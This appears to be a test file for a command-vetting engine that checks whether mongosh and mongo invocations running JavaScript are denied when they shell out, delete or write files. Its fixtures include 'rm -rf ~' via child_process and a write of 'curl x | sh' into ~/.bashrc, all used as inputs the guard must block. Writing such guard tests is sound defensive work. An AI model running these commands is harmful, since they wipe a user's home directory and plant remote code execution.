// The MongoDB shells run Node JavaScript: `mongosh --eval CODE`, `--file F`,
// `-f F`, positional `.js` files and `load("F")` are read with the node code
// reader, so a shell-out, a delete or a write in them is judged; plain
// database calls stay quiet here (the database room judges those). Real
// files on disk, the engine as the hook runs it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { diskWorkspace } from '../../support/engineHarness';

const FILES = {
  'evil.js': 'require("child_process").execSync("rm -rf ~");\n',
  'writes.js': 'const fs = require("fs");\nfs.writeFileSync(require("os").homedir() + "/.bashrc", "curl x | sh");\n',
  'ok.js': 'db.users.find({ active: true }).limit(3).forEach(printjson);\n',
};

test('code mongosh runs is read for its shell-outs, deletes and writes', () => {
  const { judge, done } = diskWorkspace('ag-mongosh-', FILES);
  try {
    for (const command of [
      `mongosh --eval 'require("child_process").execSync("rm -rf ~")'`,
      `mongosh --quiet --eval='require("child_process").execSync("rm -rf ~")'`,
      'mongosh mongodb://localhost/app evil.js',
      'mongosh --file evil.js',
      'mongo --quiet -f evil.js',
      `mongosh --eval 'load("evil.js")'`,
    ]) {
      const r = judge(command);
      assert.equal(r.decision, 'deny', `${command}: ${r.findings.map((f) => f.id)}`);
      assert.ok(
        r.findings.some((f) => f.target === '~'),
        command,
      );
    }
    const write = judge('mongosh writes.js');
    assert.notEqual(write.decision, 'allow');
    assert.ok(
      write.findings.some((f) => /bashrc/.test(f.target ?? '')),
      write.findings.map((f) => f.id).join(),
    );
  } finally {
    done();
  }
});

test('everyday mongosh calls stay quiet, and the database room still judges wipes once', () => {
  const { judge, done } = diskWorkspace('ag-mongosh-', FILES);
  try {
    for (const command of [
      `mongosh --eval 'db.stats()'`,
      `mongosh --quiet --eval 'db.users.find({age: {$gt: 3}}).forEach(printjson)'`,
      `mongosh --eval 'db.users.updateOne({_id: 1}, {$set: {a: 1}})'`,
      'mongosh mongodb://localhost/app ok.js',
      `mongosh --eval 'load("ok.js")'`,
    ]) {
      const r = judge(command);
      assert.equal(r.decision, 'allow', `${command}: ${r.findings.map((f) => f.summary).join('; ')}`);
    }
    const drop = judge(`mongosh --eval 'db.dropDatabase()'`);
    assert.notEqual(drop.decision, 'allow');
    assert.deepEqual(
      drop.findings.map((f) => f.id),
      ['sql.mongo-drop-database'],
    );
  } finally {
    done();
  }
});
